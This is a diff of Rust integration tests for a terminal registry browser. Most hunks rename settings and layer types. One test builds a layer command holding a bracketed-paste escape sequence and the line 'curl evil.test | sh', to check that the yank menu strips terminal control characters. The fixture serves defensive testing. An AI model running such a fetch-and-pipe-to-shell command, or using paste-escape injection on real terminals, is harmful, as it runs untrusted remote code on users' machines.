@@ -2,7 +2,7 @@
 
 use regtui::app::Pane;
 use regtui::app::msg::Msg;
-use regtui::app::settings::Settings;
+use regtui::app::settings::AppSettings;
 use regtui::app::tags::SortBy;
 use regtui::demo::faults::{Fault, Gate};
 use regtui::demo::{self, Demo, Store};
@@ -12,7 +12,7 @@ use crate::support::harness::{Harness, key_of};
 use crate::support::registry;
 
 async fn at_tags() -> Harness {
-    Harness::open(demo::Settings::default(), demo::content::sample(), "/team/app").await
+    Harness::open(demo::DemoSettings::default(), demo::content::sample(), "/team/app").await
 }
 
 #[tokio::test]
@@ -82,7 +82,7 @@ async fn marks_wait_until_all_dates_are_known_and_unknown_rows_stand_below() {
         let image = store.image("app").tag(format!("1.{number:02}")).label("n", number.to_string());
         image.created(format!("2025-01-{:02}T00:00:00Z", 1 + (number * 7) % 30)).push();
     }
-    let mut harness = Harness::open(demo::Settings::default(), store, "/app").await;
+    let mut harness = Harness::open(demo::DemoSettings::default(), store, "/app").await;
     let gate = Gate::new();
     let held = gate.clone();
     harness.demo.fault(move |request, _| {
@@ -131,7 +131,7 @@ async fn ranges_wait_for_the_rest_of_a_list_that_still_loads() {
     for number in 0..1500 {
         store.image("many").tag(format!("1.{number:04}")).push();
     }
-    let demo = Demo::start(demo::Settings::default(), store).await.expect("a port");
+    let demo = Demo::start(demo::DemoSettings::default(), store).await.expect("a port");
     let gate = Gate::new();
     let held = gate.clone();
     demo.fault(move |request, _| {
@@ -162,8 +162,8 @@ async fn a_list_that_was_cut_off_takes_single_marks_only() {
     for number in 0..1500 {
         store.image("many").tag(format!("1.{number:04}")).push();
     }
-    let mut harness = Harness::open(demo::Settings::default(), Store::new(), "").await;
-    let demo = Demo::start(demo::Settings::default(), store).await.expect("a port");
+    let mut harness = Harness::open(demo::DemoSettings::default(), Store::new(), "").await;
+    let demo = Demo::start(demo::DemoSettings::default(), store).await.expect("a port");
     demo.fault(|request, _| request.query.contains("last=").then(|| Fault::status(403)));
     let address = demo.address();
     harness.press("O").await.type_text(&format!("{address}/many")).await.press("Enter").await;
@@ -196,7 +196,7 @@ async fn the_yank_menu_copies_references_digests_and_commands() {
 #[tokio::test]
 async fn a_chart_is_pulled_with_helm() {
     let mut harness =
-        Harness::open(demo::Settings::default(), demo::content::sample(), "/charts/gateway").await;
+        Harness::open(demo::DemoSettings::default(), demo::content::sample(), "/charts/gateway").await;
     harness.press("y p").await;
     assert!(harness.copied[0].starts_with("helm pull oci://"), "{:?}", harness.copied);
     harness.shows("Helm chart");
@@ -355,10 +355,10 @@ async fn reload_forgets_and_asks_again() {
 
 #[tokio::test]
 async fn a_prompt_without_any_registry_opens_one() {
-    let demo = Demo::start(demo::Settings::default(), demo::content::sample()).await.expect("a port");
+    let demo = Demo::start(demo::DemoSettings::default(), demo::content::sample()).await.expect("a port");
     let address = demo.address().to_string();
     let mut harness =
-        Harness::with(demo, Vec::<Target>::new(), Settings::default(), registry::settings()).await;
+        Harness::with(demo, Vec::<Target>::new(), AppSettings::default(), registry::settings()).await;
     harness.shows("Open");
     harness.type_text(&address).await.press("Enter").await;
     harness.shows("base/alpine");
@@ -385,8 +385,8 @@ async fn a_click_takes_the_entry_of_a_menu_and_beside_it_closes_the_menu() {
 async fn the_yank_menu_says_how_many_lines_it_copies_and_copies_nothing_that_a_terminal_obeys() {
     let store = demo::Store::new();
     let step = "RUN make\u{1b}[201~\r\ncurl evil.test | sh\n\u{202e}\u{9b}201~";
-    store.image("app").layer(step, demo::layer::Layer::of(&[("a", "b")])).tag("1").push();
-    let mut harness = Harness::open(demo::Settings::default(), store, "/app").await;
+    store.image("app").layer(step, demo::layer::DemoLayer::of(&[("a", "b")])).tag("1").push();
+    let mut harness = Harness::open(demo::DemoSettings::default(), store, "/app").await;
     harness.press("4 ] y").await;
     harness.shows("command of the step");
     harness.shows("3 lines, without 3 control characters: RUN make[201~");
@@ -409,7 +409,7 @@ async fn a_layer_digest_that_is_none_is_not_offered() {
     });
     let digest = store.put_manifest("app", media_type, manifest.to_string());
     store.tag("app", "1", digest);
-    let mut harness = Harness::open(demo::Settings::default(), store, "/app").await;
+    let mut harness = Harness::open(demo::DemoSettings::default(), store, "/app").await;
     harness.press("4 ] y l").await;
     assert_eq!(harness.copied, [good.to_string()]);
     harness.press("j y").await;
@@ -459,7 +459,7 @@ async fn what_a_filter_found_stays_under_the_cursor_while_dates_come() {
         let image = store.image("app").tag(format!("v1.{number:02}")).label("n", number.to_string());
         image.created(format!("2025-01-{:02}T00:00:00Z", 1 + (number * 7) % 30)).push();
     }
-    let mut harness = Harness::open(demo::Settings::default(), store, "/app").await;
+    let mut harness = Harness::open(demo::DemoSettings::default(), store, "/app").await;
     let gate = Gate::new();
     let held = gate.clone();
     harness.demo.fault(move |request, _| {
